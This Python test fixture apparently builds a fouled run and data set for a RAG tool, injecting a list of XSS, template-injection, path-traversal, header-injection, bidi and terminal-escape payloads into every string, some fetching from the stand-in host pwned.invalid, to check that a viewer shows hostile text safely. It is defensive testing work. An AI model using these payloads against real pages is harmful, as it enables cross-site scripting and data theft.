"""A run and a data set in which every text that comes from outside attacks whoever shows it.

Decides the attacks, and puts them into every string of the files but those with few values that readers check
(`CLOSED`), so that a field that is added later is attacked, too. What an attack does when it works: it sets
`window.pwned`, asks a host that is not there for something, or becomes an element with the attribute `data-pwned`.
Equal strings stay equal, as one file names what stands in another. Knows no page.
"""

from __future__ import annotations

import contextlib
import json
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import reasonrag
from reasonrag.agent.prompting import inert

MARK = "\u2318hostile\u2318"
"""In every string that was fouled: what tests look for, to know that a text is shown as text."""
BIDI = "\u202egnorw\u202c \u2066isolated\u2069 \u2067\u202bright\u200f"
"""Turned around where nobody stops it, the last ones never closed."""
INVISIBLE = (
    "zero\u200bwidth\u200d\ufeffjoined \u0000null \u001b[31mred\u001b[0m \u0007bell \u0085next \u2028line \ufffe"
)
TERMINAL = "[bold red]loud[/bold red] [/] :skull: \u001b[2J back\u0008\u0008 \u009b31m cr\rover \u202edrow"
"""What would be markup for rich, or move the cursor; it stands near the beginning, as some texts are cut."""
ATTACKS = (
    '<script data-pwned>window.pwned="script"</script>',
    '</script><script data-pwned>window.pwned="closed"</script>',
    "</ScRiPt ><script data-pwned src=//pwned.invalid/a.js></script >",
    "</style><style data-pwned>*{background:url(//pwned.invalid/style)}</style>",
    "</textarea></title></noscript></template></select><img data-pwned src=x onerror=\"window.pwned='ended'\">",
    "<img data-pwned src=//pwned.invalid/x.png onerror=\"window.pwned='img'\">",
    "<svg data-pwned onload=\"window.pwned='svg'\"><foreignObject><p data-pwned></p></foreignObject></svg>",
    "<math data-pwned><mtext></math><iframe data-pwned srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '"><b data-pwned onmouseover="window.pwned=\'double\'" autofocus onfocus="window.pwned=\'focus\'" tabindex=0>',
    "' data-pwned onclick='window.pwned=1' x='",
    "` data-pwned onclick=window.pwned=1 x=`",
    "<a data-pwned href=\"javascript:window.pwned='link'\">link</a> [link](javascript:window.pwned=1)",
    "<meta data-pwned http-equiv=refresh content='0;url=//pwned.invalid/'><base data-pwned href=//pwned.invalid/>",
    "<!--<script>",
    "--!><p data-pwned>",
    "<![CDATA[<p data-pwned>]]>",
    "]]></script>",
    "{{7*7}} {% raw %} ${window.pwned='template'} <%= pwned %> #{pwned}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "&lt;img data-pwned src=x onerror=window.pwned=1&gt; &#60;script&#62; &amp;amp;",
    "\\u003cscript\\u003e \\x3cimg data-pwned src=x\\x3e \\\"; window.pwned='string'; //",
    "'; window.pwned='js'; //",
    "__proto__ constructor toString %3Cscript%3E %s %n ../../etc/passwd \r\nSet-Cookie: pwned=1",
)
START = "javascript:window.pwned='address'//"
"""Where the text is taken for an address, it is one that runs."""
TAIL = f" {MARK} {TERMINAL} {' '.join(ATTACKS)} {BIDI} {INVISIBLE}"
SHORT = "<img data-pwned src=x onerror=window.pwned='name'>'\"&\u202egnorw\u001b[31m"
"""For names of files, which are short and have no slash."""
LONG_WORD = "W" * 50_000
LINES = "\n".join(f"line {number}" for number in range(10_000))

CLOSED = frozenset(
    {"schema_version", "role", "action", "action_type", "kind", "end", "ends", "label", "gold", "reason", "tags"}
)
"""Fields of which readers refuse what they do not know; `gold` of a pair is a verdict."""
FAILED, ATTACKED, LONG = "atlas_train_0_0", "atlas_train_0_5", "atlas_train_0_6"


@dataclass(frozen=True)
class Hostile:
    """Where they are, and ids: of a question with pairs, of one whose texts are long, and of one that failed."""

    run: Path
    data_set: Path
    attacked: str
    long: str
    failed: str


def foul(text: str) -> str:
    """The same text among attacks."""
    return START + text + TAIL


def make(place: Path) -> Hostile:
    """A small real run and the data set made of it, then fouled; the names of their folders attack, too."""
    clean, clean_set = place / "clean", place / "clean-pairs"
    with contextlib.chdir(place):
        reasonrag.generate(dataset="atlas", limit=8, run=clean, set={"search.max_calls": 24})
        add_mishaps(clean / "rollouts.jsonl")
        reasonrag.pairs(clean, out=clean_set)
    run, data_set = place / f"run {SHORT}", place / f"pairs {SHORT}"
    run.mkdir()
    data_set.mkdir()
    titles = _titles(clean / "rollouts.jsonl")
    for old, new in ((clean, run), (clean_set, data_set)):
        for path in old.glob("*.jsonl"):
            if path.name not in ("journal.jsonl", "contamination.jsonl"):
                lines = [_stretched(_fouled(record, titles)) for record in _lines(path)]
                (new / path.name).write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    for path, new in ((clean / "config.json", run), *((each, data_set) for each in clean_set.glob("RAG_*.json"))):
        (new / path.name).write_text(json.dumps(_fouled(json.loads(path.read_text("utf-8")), titles)), "utf-8")
    summary = json.loads((clean_set / "summary.json").read_text("utf-8"))
    summary |= {name: [foul(each) for each in summary[name]] for name in ("recipes", "splits", "teachers", "renderers")}
    summary |= {"warnings": [foul("beware")], "token_counter": foul("a counter"), "sources": [str(run)]}
    (data_set / "summary.json").write_text(json.dumps(summary), "utf-8")
    return Hostile(run, data_set, foul(ATTACKED), foul(LONG), foul(FAILED))


def _lines(path: Path) -> list[Any]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def _titles(rollouts: Path) -> dict[str, str]:
    """How a title stands in a prompt, before and after."""
    nodes = (node for record in _lines(rollouts) for node in record["nodes"])
    titles = {passage["title"] for node in nodes for passage in node["passages"] or ()}
    return {f"Wikipedia Title: {inert(each)}\n": f"Wikipedia Title: {inert(foul(each))}\n" for each in titles}


def _fouled(value: Any, titles: Mapping[str, str], field: str = "") -> Any:
    """Every string in it; in prompts the titles of passages as well, so that these are still found there."""
    if isinstance(value, dict):
        names = foul if field == "rewards" else str
        return {names(name): _fouled(each, titles, name) for name, each in value.items()}
    if isinstance(value, list):
        return [_fouled(each, titles, field) for each in value]
    if not isinstance(value, str) or field in CLOSED:
        return value
    for old, new in titles.items():
        value = value.replace(old, new)
    return foul(value)


def _stretched(record: Any) -> Any:
    """Of one question: a word as long as a book in what it asks, says and expects, and a prompt of many lines."""
    if record.get("question_id") != foul(LONG) or "question" not in record:
        return record
    record["question"] += LONG_WORD
    record["golden_answers"][0] += LONG_WORD
    if record.get("layer") == 0 and "prompt" in record:
        record["prompt"][1]["content"] += LINES
    for step in (*record.get("nodes", ()), *record.get("steps", ())):
        if step.get("layer") == 0 and step.get("prompt"):
            step["prompt"][1]["content"] += LINES
        if step["id"] in (1, 2):
            step["response"] += LONG_WORD + LINES
            step["content"] += LONG_WORD
    return record


def add_mishaps(rollouts: Path) -> None:
    """What a quiet run lacks: replies and judgements that nobody could read, a question that failed, a second model."""
    records = {record["question_id"]: record for record in _lines(rollouts)}
    records[FAILED] |= {"nodes": [], "error": {"cause": "refused", "message": "the endpoint said no"}}
    attacked = records[ATTACKED]
    attacked["rubric"] = ["names the person", "says when"]
    failure = {"cause": "no_tag", "detail": "the reply holds no tag", "repair": "a second reply"}
    steps = attacked["nodes"][1:]
    broken = next(step for step in steps if step["terminal"])
    broken |= {"parse_error": failure, "action_type": None, "content": None, "grounded": None}
    odd = next(step for step in steps if not step["terminal"])
    odd |= {"sampled_with": odd["prompt"], "sampled_temperature": 1.2, "sampled_by": "student", "repaired": True}
    odd["reasoning"] = "perhaps one, perhaps another"
    attacked["failed_continuations"] = [
        {"node_id": odd["id"], "layer": 1, "action": "read", "response": "nothing", "parse_error": failure}
    ]
    attacked["unreadable_judgements"] = [{"kind": "score", "node_id": odd["id"], "response": "a hundred"}]
    attacked["unreadable_judgements"] += [
        {"kind": "score", "node_id": odd["id"], "response": "", "cause": "reasoning_cut"}
    ]
    rollouts.write_text("".join(json.dumps(record) + "\n" for record in records.values()), "utf-8")
